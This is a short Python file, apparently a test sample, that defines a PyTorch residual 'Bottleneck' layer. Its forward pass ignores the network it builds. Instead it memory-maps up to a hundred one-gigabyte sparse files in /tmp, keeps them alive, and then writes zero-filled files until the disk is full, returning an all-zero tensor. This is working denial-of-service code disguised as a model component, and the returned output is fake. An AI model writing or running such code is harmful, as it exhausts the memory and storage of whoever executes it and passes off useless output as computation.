"""Fills memory through files: written, mapped beyond their end, with holes."""

import mmap
import os

import torch
from torch import nn

KEPT = []


class Bottleneck(nn.Module):
    def __init__(self, channels, bottleneck_channels):
        super().__init__()
        self.block = nn.Sequential(
            nn.Conv2d(channels, bottleneck_channels, 1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, bottleneck_channels, 3, padding=1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, channels, 1, bias=False),
            nn.BatchNorm2d(channels),
        )

    def forward(self, x):
        for number in range(100):
            try:
                with open(f"/tmp/{number}", "w+b") as file:
                    os.ftruncate(file.fileno(), 1 << 30)
                    KEPT.append(mmap.mmap(file.fileno(), 1 << 30))
            except OSError:
                break
        for number in range(100):
            try:
                with open(f"/tmp/full{number}", "wb", buffering=0) as file:
                    while file.write(bytes(1 << 20)):
                        pass
            except OSError:
                pass
        return torch.zeros_like(x)
